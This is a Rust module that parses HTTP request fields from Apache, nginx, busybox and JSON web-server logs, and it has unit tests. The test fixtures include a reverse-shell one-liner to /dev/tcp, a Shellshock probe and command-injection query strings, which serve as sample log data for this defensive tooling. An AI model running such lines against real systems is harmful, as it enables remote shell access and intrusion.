//! The HTTP request a web-server log record describes (client, method, path, query, status,
//! response size, Host / Referer / User-Agent), parsed from the formats that carry them:
//! Apache/nginx combined and common (also Tomcat's default access log, vhost prefixes and a
//! `docker logs -t` time in front), JSON access logs (nginx/Traefik/Caddy/ECS field names),
//! Apache and nginx error logs. Pure functions; attacker text is kept as bytes turned lossy.

use serde::Serialize;

/// One parsed request. Every field is optional: a log format carries what it carries.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct HttpRequest {
    /// Source address of the request (IP or host name as logged, port dropped).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub client: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub method: Option<String>,
    /// Request path without the query, percent-decoded once.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// Query string as logged (without the `?`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub query: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub status: Option<u16>,
    /// Response size in bytes.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub bytes: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub host: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub referer: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub user_agent: Option<String>,
    /// `X-Forwarded-For` (or `X-Real-IP`) as logged: the client is a proxy or load balancer
    /// that relayed the request for these addresses (as the sender claims them).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub forwarded_for: Option<String>,
    /// The request target was absolute (`GET http://host/x`, `CONNECT host:443`): a forward
    /// proxy's log. Not serialized (the host and path carry it).
    #[serde(skip)]
    pub proxy: bool,
    /// The connection as the server named it (busybox httpd: `[::ffff:IP]:PORT`), when it
    /// logs the status on a later line of the same connection. Not serialized.
    #[serde(skip)]
    pub connection: Option<String>,
}

impl HttpRequest {
    /// True when nothing was parsed.
    pub(crate) fn is_empty(&self) -> bool {
        *self == HttpRequest::default()
    }
}

/// Methods recognised at the start of a request line (WebDAV and probes included).
const METHODS: &[&str] = &[
    "GET",
    "POST",
    "HEAD",
    "PUT",
    "DELETE",
    "OPTIONS",
    "PATCH",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "UNLOCK",
    "SEARCH",
    "REPORT",
    "DEBUG",
    "TRACK",
];

/// Parse a record; None when it is not a web-server record (or carries nothing useful).
pub(crate) fn parse(record: &[u8]) -> Option<HttpRequest> {
    let text = String::from_utf8_lossy(record);
    let t = text.trim_start_matches('\u{feff}').trim();
    let parsed = if t.starts_with('{') {
        parse_json(t)
    } else {
        parse_access(t)
            .or_else(|| parse_busybox(t))
            .or_else(|| parse_nginx_error(t))
            .or_else(|| parse_apache_error(t))
    };
    parsed.filter(|h| !h.is_empty()).map(|mut h| {
        h.client = h.client.map(|c| fold_mapped(&c));
        h
    })
}

/// An IPv4 address written as IPv6 (`::ffff:203.0.113.50`) is the IPv4 address.
pub(crate) fn fold_mapped(addr: &str) -> String {
    let lower = addr.to_ascii_lowercase();
    match lower.strip_prefix("::ffff:") {
        Some(v4) if v4.split('.').count() == 4 && v4.split('.').all(|p| p.parse::<u8>().is_ok()) => {
            v4.to_string()
        }
        _ => addr.to_string(),
    }
}

/// busybox httpd `-vv`: `[::ffff:IP]:PORT: url:/path?query` (the status follows on a later
/// `[::ffff:IP]:PORT: response:NNN` line of the same connection: see [`status_line`]).
fn parse_busybox(t: &str) -> Option<HttpRequest> {
    let (conn, rest) = busybox_prefix(t)?;
    let url = rest.strip_prefix("url:")?;
    let mut h = HttpRequest { connection: Some(conn.to_string()), ..Default::default() };
    h.client = clean_addr(conn);
    let (path, query) = match url.split_once('?') {
        Some((p, q)) => (p, Some(q.to_string())),
        None => (url, None),
    };
    h.path = Some(path.to_string());
    h.query = query;
    Some(h)
}

/// `[addr]:port: ` at the start of a busybox httpd line (after any time prefix a collector
/// added): the connection and the rest.
fn busybox_prefix(t: &str) -> Option<(&str, &str)> {
    let start = t.find('[')?;
    if start > 40 {
        return None;
    }
    let close = start + t[start..].find("]:")?;
    let after = &t[close + 2..];
    let digits = after.bytes().take_while(u8::is_ascii_digit).count();
    if digits == 0 || !after[digits..].starts_with(": ") {
        return None;
    }
    let conn = &t[start..close + 2 + digits];
    Some((conn, &after[digits + 2..]))
}

/// A line that only reports the status of an earlier request of a connection (busybox
/// httpd `-v`: `[::ffff:IP]:PORT: response:404`): the connection and the status.
pub(crate) fn status_line(line: &[u8]) -> Option<(String, u16)> {
    let at = memchr::memmem::find(line, b": response:")?;
    let head = String::from_utf8_lossy(&line[..at + 2]);
    let (conn, _) = busybox_prefix(&head)?;
    let digits: String =
        line[at + 11..].iter().take_while(|b| b.is_ascii_digit()).map(|&b| b as char).collect();
    let status = digits.parse::<u16>().ok().filter(|s| (100..=599).contains(s))?;
    Some((conn.to_string(), status))
}

/// Combined / common / vhost_combined / Tomcat access lines, possibly behind a time prefix:
/// `<host> <ident> <user> [<time>] "<request>" <status> <bytes> ["<referer>" "<ua>"]`.
fn parse_access(t: &str) -> Option<HttpRequest> {
    // The request is the first quoted string whose first word is a method (or `-`, logged
    // for an empty request); it follows the `[time]` bracket in every access format.
    let (bracket, open) = find_request_quote(t)?;
    let (request, after) = quoted(&t[open..])?;
    let mut h = HttpRequest::default();
    set_request_line(&mut h, &request);
    if let Some(b) = bracket {
        let prefix: Vec<&str> = t[..b].split_whitespace().collect();
        // `%h %l %u`: the client is the third word from the end (a vhost or a time may be
        // in front of it).
        if prefix.len() >= 3 {
            h.client = clean_addr(prefix[prefix.len() - 3]);
            if prefix.len() >= 4 {
                let v = prefix[prefix.len() - 4];
                if !looks_like_time(v) {
                    h.host = Some(v.rsplit_once(':').map_or(v, |(a, _)| a).to_string())
                        .filter(|s| !s.is_empty() && s != "-");
                }
            }
        } else if let Some(first) = prefix.first() {
            h.client = clean_addr(first);
        }
        // `<time> [<addr>] "<request>"`: the bracket holds the client, not a time.
        let inner = t[b + 1..].split(']').next().unwrap_or("");
        if looks_like_addr(inner) {
            h.client = clean_addr(inner);
        }
    }
    let rest = &t[open + after..];
    let mut words = rest.split_whitespace();
    h.status = words.next().and_then(|s| s.parse::<u16>().ok()).filter(|s| (100..=599).contains(s));
    h.bytes = words.next().and_then(|s| s.parse::<u64>().ok());
    // Referer and User-Agent: the next two quoted strings, when present.
    let mut tail = rest;
    let mut quoted_fields = Vec::new();
    while quoted_fields.len() < 3 {
        let Some(q) = tail.find('"') else { break };
        let Some((v, used)) = quoted(&tail[q..]) else { break };
        quoted_fields.push(v);
        tail = &tail[q + used..];
    }
    let mut qf = quoted_fields.into_iter();
    h.referer = qf.next().and_then(dash_none);
    h.user_agent = qf.next().and_then(dash_none);
    // nginx's `main` format and its kin log `"$http_x_forwarded_for"` after the User-Agent.
    h.forwarded_for = qf.next().and_then(address_list);
    Some(h)
}

/// Where the request's opening quote is, and the `[time]` bracket before it if any.
fn find_request_quote(t: &str) -> Option<(Option<usize>, usize)> {
    let bracket = t.find(" [").map(|b| b + 1).or_else(|| t.starts_with('[').then_some(0));
    let from = match bracket {
        Some(b) => t[b..].find("] ").map_or(b, |e| b + e),
        None => 0,
    };
    let mut at = from;
    while let Some(q) = t[at..].find('"') {
        let open = at + q;
        let inner = &t[open + 1..];
        let word = inner.split([' ', '"']).next().unwrap_or("");
        if METHODS.iter().any(|m| m.eq_ignore_ascii_case(word)) || inner.starts_with("-\"") {
            return Some((bracket, open));
        }
        if bracket.is_some() {
            // In an access line the first quoted field is the request; anything else is
            // not an access line.
            return None;
        }
        at = open + 1;
        if at > 512 {
            return None;
        }
    }
    None
}

/// nginx error log: `... [error] 12#0: *1 msg, client: IP, server: S, request: "GET / HTTP/1.1",
/// host: "h", referrer: "r"`.
fn parse_nginx_error(t: &str) -> Option<HttpRequest> {
    let c = t.find(", client: ")?;
    let mut h = HttpRequest::default();
    let after = &t[c + 10..];
    h.client = clean_addr(after.split([',', ' ']).next().unwrap_or(""));
    if let Some(r) = after.find("request: \"") {
        if let Some((req, _)) = quoted(&after[r + 9..]) {
            set_request_line(&mut h, &req);
        }
    }
    if let Some(r) = after.find("host: \"") {
        h.host = quoted(&after[r + 6..]).and_then(|(v, _)| dash_none(v));
    }
    if let Some(r) = after.find("referrer: \"") {
        h.referer = quoted(&after[r + 10..]).and_then(|(v, _)| dash_none(v));
    }
    Some(h)
}

/// Apache error log: `[time] [module:level] [pid N] [client IP:port] msg[, referer: R]`, and
/// mod_security's `[hostname "h"] [uri "/p"]` tags.
fn parse_apache_error(t: &str) -> Option<HttpRequest> {
    if !t.starts_with('[') {
        return None;
    }
    let c = t.find("[client ").map(|p| p + 8).or_else(|| t.find("[remote ").map(|p| p + 8))?;
    let mut h = HttpRequest::default();
    let end = t[c..].find(']').map_or(t.len(), |e| c + e);
    h.client = clean_addr(t[c..end].trim());
    if let Some(r) = t.rfind(", referer: ") {
        h.referer = dash_none(t[r + 11..].trim().to_string());
    }
    if let Some(u) = t.find("[uri \"") {
        if let Some((v, _)) = quoted(&t[u + 5..]) {
            h.path = Some(v);
        }
    }
    if let Some(u) = t.find("[hostname \"") {
        h.host = quoted(&t[u + 10..]).and_then(|(v, _)| dash_none(v));
    }
    Some(h)
}

/// JSON access logs: the usual field names of nginx `escape=json` formats, Traefik, Caddy,
/// Elastic Common Schema and W3C-style keys, looked up case- and punctuation-insensitively
/// at any depth.
fn parse_json(t: &str) -> Option<HttpRequest> {
    let v: serde_json::Value = serde_json::from_str(t).ok()?;
    let mut flat: Vec<(String, &serde_json::Value)> = Vec::new();
    flatten(&v, String::new(), &mut flat, 0);
    let get = |names: &[&str]| -> Option<String> {
        names.iter().find_map(|n| {
            flat.iter().find(|(k, _)| k == n).and_then(|(_, v)| match v {
                serde_json::Value::String(s) => Some(s.clone()),
                serde_json::Value::Number(x) => Some(x.to_string()),
                serde_json::Value::Array(a) => a.first().and_then(|x| x.as_str()).map(str::to_string),
                _ => None,
            })
        })
    };
    let mut h = HttpRequest::default();
    if let Some(line) = get(&["request", "requestline", "req"]) {
        if line.contains(' ') {
            set_request_line(&mut h, &line);
        }
    }
    if h.method.is_none() {
        h.method = get(&["method", "requestmethod", "httprequestmethod", "csmethod", "verb"])
            .map(|m| m.to_ascii_uppercase());
    }
    if h.path.is_none() {
        if let Some(u) = get(&[
            "requesturi",
            "uri",
            "url",
            "urloriginal",
            "requestpath",
            "path",
            "requesturl",
            "urlpath",
            "csuristem",
        ]) {
            let target = match u.find("://") {
                // An absolute URL: keep its path and query.
                Some(s) => u[s + 3..].find('/').map_or("/".to_string(), |p| u[s + 3 + p..].to_string()),
                None => u,
            };
            set_target(&mut h, &target);
        }
    }
    if h.query.is_none() {
        h.query = get(&["querystring", "args", "urlquery", "csuriquery", "query"]).and_then(dash_none);
    }
    h.client = get(&[
        "remoteaddr",
        "remoteip",
        "requestremoteip",
        "requestclientip",
        "clientip",
        "clienthost",
        "clientaddr",
        "clientaddress",
        "sourceip",
        "sourceaddress",
        "srcip",
        "cip",
        "ip",
        "remote",
    ])
    .and_then(|a| clean_addr(&a));
    h.status =
        get(&["status", "statuscode", "downstreamstatus", "httpresponsestatuscode", "scstatus", "response"])
            .and_then(|s| s.parse::<u16>().ok())
            .filter(|s| (100..=599).contains(s));
    h.bytes = get(&[
        "bodybytessent",
        "bytessent",
        "size",
        "bytes",
        "downstreamcontentsize",
        "httpresponsebodybytes",
        "responsesize",
        "scbytes",
    ])
    .and_then(|s| s.parse::<u64>().ok());
    h.host =
        get(&["host", "httphost", "requesthost", "servername", "urldomain", "requestheadershost", "cshost"])
            .and_then(dash_none);
    h.referer = get(&[
        "httpreferer",
        "referer",
        "referrer",
        "httprequestreferrer",
        "requestreferer",
        "requestheadersreferer",
        "csreferer",
    ])
    .and_then(dash_none);
    h.user_agent = get(&[
        "httpuseragent",
        "useragent",
        "useragentoriginal",
        "requestuseragent",
        "requestheadersuseragent",
        "cuseragent",
        "ua",
    ])
    .and_then(dash_none);
    h.forwarded_for = get(&[
        "httpxforwardedfor",
        "xforwardedfor",
        "requestxforwardedfor",
        "requestheadersxforwardedfor",
        "forwardedfor",
        "httpxrealip",
        "xrealip",
        "requestxrealip",
    ])
    .and_then(address_list);
    // A JSON log line without any request part is not an access log.
    (h.method.is_some() || h.path.is_some()).then_some(h)
}

fn flatten<'a>(
    v: &'a serde_json::Value,
    prefix: String,
    out: &mut Vec<(String, &'a serde_json::Value)>,
    depth: u8,
) {
    if let serde_json::Value::Object(m) = v {
        if depth > 4 {
            return;
        }
        for (k, val) in m {
            let key: String = format!("{prefix}{k}")
                .chars()
                .filter(|c| c.is_ascii_alphanumeric())
                .map(|c| c.to_ascii_lowercase())
                .collect();
            if val.is_object() {
                flatten(val, key.clone(), out, depth + 1);
            }
            out.push((key, val));
        }
    }
}

/// `METHOD target [HTTP/x.y]` into method, path and query.
fn set_request_line(h: &mut HttpRequest, line: &str) {
    let line = line.trim();
    if line.is_empty() || line == "-" {
        return;
    }
    let (method, rest) = line.split_once(' ').unwrap_or((line, ""));
    h.method = Some(method.to_string());
    if method.eq_ignore_ascii_case("CONNECT") {
        h.proxy = true;
        h.host = rest.split([' ', ':']).next().filter(|x| !x.is_empty()).map(str::to_string);
        return;
    }
    let target = match rest.rsplit_once(' ') {
        Some((t, proto)) if proto.starts_with("HTTP/") => t,
        _ => rest,
    };
    if !target.is_empty() {
        set_target(h, target);
    }
}

fn set_target(h: &mut HttpRequest, target: &str) {
    let lower = target.get(..8).unwrap_or(target).to_ascii_lowercase();
    let target = if lower.starts_with("http://") || lower.starts_with("https://") {
        // Absolute form: a forward proxy's log. The authority is the host.
        h.proxy = true;
        let rest = &target[target.find("://").map_or(0, |p| p + 3)..];
        let (auth, path) = rest.find('/').map_or((rest, "/"), |p| (&rest[..p], &rest[p..]));
        if h.host.is_none() {
            h.host = Some(auth.rsplit('@').next().unwrap_or(auth).to_string()).filter(|s| !s.is_empty());
        }
        path
    } else {
        target
    };
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (target, None),
    };
    h.path =
        Some(String::from_utf8_lossy(&super::decode::url_decode_once(path.as_bytes(), false)).into_owned());
    h.query = query.map(str::to_string);
}

/// A double-quoted field at the start of `s` with `\"` and `\\` escapes (as Apache and nginx
/// write them). Returns the value and the bytes used (quotes included).
fn quoted(s: &str) -> Option<(String, usize)> {
    let b = s.as_bytes();
    if b.first() != Some(&b'"') {
        return None;
    }
    let mut out = Vec::new();
    let mut i = 1;
    while i < b.len() {
        match b[i] {
            b'"' => return Some((String::from_utf8_lossy(&out).into_owned(), i + 1)),
            b'\\' if matches!(b.get(i + 1), Some(b'"' | b'\\')) => {
                out.push(b[i + 1]);
                i += 2;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    // Unterminated (a cut record): the rest is the value.
    Some((String::from_utf8_lossy(&out).into_owned(), b.len()))
}

/// An `X-Forwarded-For` value: addresses separated by commas (ports and brackets allowed),
/// as logged; None for `-`, empty or anything else.
fn address_list(s: String) -> Option<String> {
    let s = s.trim();
    let ok = !s.is_empty()
        && s.split(',').all(|a| clean_addr(a).is_some_and(|a| a.parse::<std::net::IpAddr>().is_ok()));
    ok.then(|| s.to_string())
}

fn dash_none(s: String) -> Option<String> {
    (!s.is_empty() && s != "-").then_some(s)
}

/// An address token without brackets or a port: `1.2.3.4:5678` -> `1.2.3.4`,
/// `[2001:db8::1]:443` -> `2001:db8::1`; `-` and empty are none.
/// An IP address (v4, v6 or v4-mapped), without port.
fn looks_like_addr(s: &str) -> bool {
    let s = s.trim();
    !s.is_empty()
        && s.contains(['.', ':'])
        && s.bytes().all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b':')
        && (s.split('.').count() == 4 || s.matches(':').count() >= 2)
}

fn clean_addr(a: &str) -> Option<String> {
    let a = a.trim().trim_end_matches(',');
    if a.is_empty() || a == "-" {
        return None;
    }
    if let Some(inner) = a.strip_prefix('[') {
        return inner.split(']').next().filter(|s| !s.is_empty()).map(str::to_string);
    }
    // IPv4 with port (exactly one colon); an IPv6 address has several.
    match a.split_once(':') {
        Some((ip, port)) if !port.contains(':') && port.bytes().all(|c| c.is_ascii_digit()) => {
            Some(ip.to_string())
        }
        _ => Some(a.to_string()),
    }
}

fn looks_like_time(s: &str) -> bool {
    s.len() >= 19 && s.as_bytes()[4] == b'-' && s.contains('T')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> HttpRequest {
        parse(s.as_bytes()).unwrap_or_else(|| panic!("no request in {s:?}"))
    }

    #[test]
    fn combined_line() {
        let h = p(
            r#"203.0.113.7 - frank [10/Oct/2026:13:55:36 -0700] "GET /cgi-bin/a%20b.cgi?x=1&y=%27 HTTP/1.1" 404 2326 "http://ref.example/" "Mozilla/5.0 (\"quoted\")""#,
        );
        assert_eq!(h.client.as_deref(), Some("203.0.113.7"));
        assert_eq!(h.method.as_deref(), Some("GET"));
        assert_eq!(h.path.as_deref(), Some("/cgi-bin/a b.cgi"));
        assert_eq!(h.query.as_deref(), Some("x=1&y=%27"));
        assert_eq!(h.status, Some(404));
        assert_eq!(h.bytes, Some(2326));
        assert_eq!(h.referer.as_deref(), Some("http://ref.example/"));
        assert_eq!(h.user_agent.as_deref(), Some(r#"Mozilla/5.0 ("quoted")"#));
    }

    #[test]
    fn forwarded_for_after_the_user_agent_and_in_json() {
        let h = p(
            r#"10.0.0.5 - - [27/Nov/2026:14:00:00 +0000] "GET /cgi-bin/ping?host=;curl HTTP/1.1" 200 5 "-" "curl/8.0" "203.0.113.50, 10.0.0.9""#,
        );
        assert_eq!(h.forwarded_for.as_deref(), Some("203.0.113.50, 10.0.0.9"));
        let h = p(r#"10.0.0.5 - - [27/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.0" "-""#);
        assert_eq!(h.forwarded_for, None);
        // A third quoted field that is no address list is not taken for one.
        let h = p(r#"10.0.0.5 - - [27/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.0" "x=1""#);
        assert_eq!(h.forwarded_for, None);
        let h = p(
            r#"{"remote_addr":"10.0.0.5","request":"GET / HTTP/1.1","status":200,"http_x_forwarded_for":"198.51.100.4"}"#,
        );
        assert_eq!(h.forwarded_for.as_deref(), Some("198.51.100.4"));
    }

    #[test]
    fn common_tomcat_vhost_and_prefixed_lines() {
        let h = p(r#"10.0.0.5 - - [27/Nov/2026:14:00:00 +0000] "POST /manager/html HTTP/1.1" 200 -"#);
        assert_eq!(
            (h.client.as_deref(), h.method.as_deref(), h.status, h.bytes),
            (Some("10.0.0.5"), Some("POST"), Some(200), None)
        );
        assert_eq!(h.user_agent, None);
        let h = p(
            r#"www.example.com:443 198.51.100.2 - - [27/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 301 12 "-" "curl/8.0""#,
        );
        assert_eq!(h.client.as_deref(), Some("198.51.100.2"));
        assert_eq!(h.host.as_deref(), Some("www.example.com"));
        assert_eq!(h.referer, None);
        assert_eq!(h.user_agent.as_deref(), Some("curl/8.0"));
        let h = p(
            r#"2026-11-27T14:00:00.123Z 192.0.2.9 - - [27/Nov/2026:14:00:00 +0000] "HEAD /x HTTP/1.0" 200 0 "-" "-""#,
        );
        assert_eq!((h.client.as_deref(), h.host.as_deref()), (Some("192.0.2.9"), None));
        // A malformed request line (spaces in the target, no protocol) is kept whole.
        let h = p(r#"192.0.2.9 - - [27/Nov/2026:14:00:00 +0000] "GET /a b;id" 400 0"#);
        assert_eq!(h.path.as_deref(), Some("/a b;id"));
        let h = p(r#"192.0.2.9 - - [27/Nov/2026:14:00:00 +0000] "-" 408 0 "-" "-""#);
        assert_eq!((h.method, h.status), (None, Some(408)));
    }

    #[test]
    fn proxy_requests() {
        let h = p(
            r#"192.0.2.3 - - [27/Nov/2026:14:00:00 +0000] "GET http://evil.example:8080/x.php?a=1 HTTP/1.1" 200 10 "-" "curl/8""#,
        );
        assert!(h.proxy);
        assert_eq!(
            (h.host.as_deref(), h.path.as_deref(), h.query.as_deref()),
            (Some("evil.example:8080"), Some("/x.php"), Some("a=1"))
        );
        let h = p(
            r#"192.0.2.3 - - [27/Nov/2026:14:00:00 +0000] "CONNECT pool.example:443 HTTP/1.1" 200 10 "-" "-""#,
        );
        assert!(h.proxy);
        assert_eq!(h.host.as_deref(), Some("pool.example"));
        assert!(!p(r#"192.0.2.3 - - [27/Nov/2026:14:00:00 +0000] "GET /x HTTP/1.1" 200 1"#).proxy);
    }

    #[test]
    fn error_logs() {
        let h = p("[Wed Nov 27 14:00:00.123 2026] [cgi:error] [pid 12:tid 34] [client 203.0.113.9:51234] AH01215: () { :;}; /bin/bash -c id: /usr/lib/cgi-bin/t.cgi, referer: http://x.example/");
        assert_eq!(h.client.as_deref(), Some("203.0.113.9"));
        assert_eq!(h.referer.as_deref(), Some("http://x.example/"));
        let h = p(
            r#"2026/11/27 14:00:00 [error] 7#7: *3 open() "/usr/share/nginx/html/x.php" failed (2: No such file or directory), client: 198.51.100.4, server: _, request: "GET /x.php?a=b HTTP/1.1", host: "victim.example", referrer: "http://r/""#,
        );
        assert_eq!(h.client.as_deref(), Some("198.51.100.4"));
        assert_eq!(
            (h.method.as_deref(), h.path.as_deref(), h.query.as_deref()),
            (Some("GET"), Some("/x.php"), Some("a=b"))
        );
        assert_eq!((h.host.as_deref(), h.referer.as_deref()), (Some("victim.example"), Some("http://r/")));
        let h = p(
            r#"[Wed Nov 27 14:00:00 2026] [error] [client 2001:db8::7] ModSecurity: Access denied [hostname "v.example"] [uri "/index.php"]"#,
        );
        assert_eq!(
            (h.client.as_deref(), h.path.as_deref(), h.host.as_deref()),
            (Some("2001:db8::7"), Some("/index.php"), Some("v.example"))
        );
    }

    #[test]
    fn json_access_logs() {
        let h = p(
            r#"{"remote_addr":"203.0.113.1","request":"GET /a?b=c HTTP/1.1","status":"200","body_bytes_sent":"512","http_referer":"","http_user_agent":"sqlmap/1.7","host":"v.example"}"#,
        );
        assert_eq!(
            (h.client.as_deref(), h.method.as_deref(), h.path.as_deref(), h.query.as_deref()),
            (Some("203.0.113.1"), Some("GET"), Some("/a"), Some("b=c"))
        );
        assert_eq!(
            (h.status, h.bytes, h.referer, h.user_agent.as_deref()),
            (Some(200), Some(512), None, Some("sqlmap/1.7"))
        );
        // Traefik.
        let h = p(
            r#"{"ClientHost":"198.51.100.3","RequestMethod":"POST","RequestPath":"/api?x=1","DownstreamStatus":500,"DownstreamContentSize":3,"request_User-Agent":"curl/8"}"#,
        );
        assert_eq!(
            (h.client.as_deref(), h.method.as_deref(), h.path.as_deref(), h.status, h.bytes),
            (Some("198.51.100.3"), Some("POST"), Some("/api"), Some(500), Some(3))
        );
        assert_eq!(h.user_agent.as_deref(), Some("curl/8"));
        // Caddy: nested request with header arrays.
        let h = p(
            r#"{"level":"info","request":{"remote_ip":"192.0.2.5","method":"GET","host":"c.example","uri":"/x?y","headers":{"User-Agent":["Nuclei"]}},"status":404,"size":0}"#,
        );
        assert_eq!(
            (h.client.as_deref(), h.host.as_deref(), h.path.as_deref(), h.query.as_deref()),
            (Some("192.0.2.5"), Some("c.example"), Some("/x"), Some("y"))
        );
        assert_eq!((h.status, h.user_agent.as_deref()), (Some(404), Some("Nuclei")));
        // ECS.
        let h = p(
            r#"{"source":{"ip":"192.0.2.6"},"http":{"request":{"method":"get"},"response":{"status_code":302}},"url":{"original":"/login"}}"#,
        );
        assert_eq!(
            (h.client.as_deref(), h.method.as_deref(), h.status),
            (Some("192.0.2.6"), Some("GET"), Some(302))
        );
    }

    #[test]
    fn non_web_records_are_none() {
        for s in [
            "2026-11-27 14:00:00 INFO started in 3.2s",
            r#"{"level":"info","msg":"GET is a verb"}"#,
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "",
            "\"",
            "[",
        ] {
            assert_eq!(parse(s.as_bytes()), None, "{s}");
        }
        // Hostile bytes never panic.
        let _ = parse(b"\xff\xfe [\" \"GET \xff");
        let _ = parse(b"x [a] \"GET");
        let _ = parse(&[b'"'; 5000]);
    }

    #[test]
    fn random_records_never_panic() {
        // A small deterministic generator over the bytes that steer the parsers.
        let alphabet: &[u8] =
            b"\"[] -:?/%{}\\GETPOST0123456789.,\xc3\xa9\xff\n\t=&client: request: host: referrer: ";
        let mut rng = crate::test_rng::Rng(0x9e37_79b9_7f4a_7c15);
        for len in (0..400).step_by(3) {
            let rec = rng.bytes(alphabet, len);
            let _ = parse(&rec);
            let mut j = b"{\"request\":".to_vec();
            j.extend_from_slice(&rec);
            let _ = parse(&j);
        }
    }

    #[test]
    fn addresses() {
        assert_eq!(clean_addr("1.2.3.4:80").as_deref(), Some("1.2.3.4"));
        assert_eq!(clean_addr("[2001:db8::1]:443").as_deref(), Some("2001:db8::1"));
        assert_eq!(clean_addr("2001:db8::1").as_deref(), Some("2001:db8::1"));
        assert_eq!(clean_addr("-"), None);
    }
}
